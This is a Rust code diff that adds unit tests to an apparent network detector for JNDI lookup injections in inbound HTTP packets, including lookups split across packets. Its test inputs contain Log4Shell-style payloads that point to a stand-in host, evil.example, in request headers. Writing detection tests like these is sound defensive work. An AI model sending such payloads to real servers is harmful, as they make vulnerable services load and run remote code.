@@ -261,3 +261,93 @@ fn probe(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<
         incident_id: String::new(),
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sample(cookie: u64, request: u32, offset: u32, bytes: &[u8], cut: bool) -> Inbound {
+        Inbound {
+            time_ns: 0,
+            kind: InboundKind::Probe,
+            lineage: None,
+            tgid: 0,
+            cgroup_id: 1,
+            cookie,
+            remote: std::net::IpAddr::V4(std::net::Ipv4Addr::LOCALHOST),
+            remote_port: 40000,
+            local_port: 8080,
+            blocked: false,
+            match_at: 0,
+            offset,
+            request,
+            cut,
+            continued: !cut && offset > 0,
+            sample: bytes.to_vec(),
+        }
+    }
+
+    fn targets(text: &[u8], offset: u32, cut: bool) -> Vec<String> {
+        find_jndi_in(text, offset, cut)
+            .into_iter()
+            .map(|f| f.normalized)
+            .collect()
+    }
+
+    #[test]
+    fn a_lookup_split_over_two_packets_is_found_in_the_join_only() {
+        let mut windows = Windows::default();
+        let head = b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ld";
+        let first = sample(7, 0, 0, head, true);
+        let (text, offset) = windows.join(&first);
+        assert!(
+            targets(text, offset, true).is_empty(),
+            "an open lookup at a cut waits for the next packet"
+        );
+        let rest = b"ap://evil.example/a}\r\n\r\n";
+        let second = sample(7, 0, head.len() as u32, rest, false);
+        let (text, offset) = windows.join(&second);
+        assert_eq!(offset, 0);
+        assert_eq!(
+            targets(text, offset, false),
+            ["${jndi:ldap://evil.example/a}"]
+        );
+    }
+
+    #[test]
+    fn overlapping_windows_join_without_repeating_bytes() {
+        let mut windows = Windows::default();
+        let _ = windows.join(&sample(1, 0, 100, b"abcdef", false));
+        let (text, offset) = windows.join(&sample(1, 0, 103, b"defghi", false));
+        assert_eq!((text, offset), (&b"abcdefghi"[..], 100));
+        // A gap, another request, another connection: no join.
+        let (text, _) = windows.join(&sample(1, 0, 200, b"xyz", false));
+        assert_eq!(text, b"xyz");
+        let (text, _) = windows.join(&sample(1, 1, 203, b"123", false));
+        assert_eq!(text, b"123");
+        let (text, _) = windows.join(&sample(2, 1, 206, b"456", false));
+        assert_eq!(text, b"456");
+    }
+
+    #[test]
+    fn joined_text_is_bounded() {
+        let mut windows = Windows::default();
+        let chunk = [b'a'; 512];
+        let mut offset = 0;
+        for _ in 0..20 {
+            let _ = windows.join(&sample(3, 0, offset, &chunk, false));
+            offset += 448;
+        }
+        let (text, start) = windows.join(&sample(3, 0, offset, &chunk, false));
+        assert_eq!(text.len(), MAX_JOINED);
+        assert_eq!(start as usize + text.len(), offset as usize + chunk.len());
+    }
+
+    #[test]
+    fn a_window_from_inside_a_head_is_located_by_header() {
+        let window = b"ml,application/xhtml\r\nX-Api-Version: ${jndi:ldap://evil.example/a}\r\n\r\n";
+        let findings = find_jndi_in(window, 12_345, false);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].location, "header:X-Api-Version");
+    }
+}
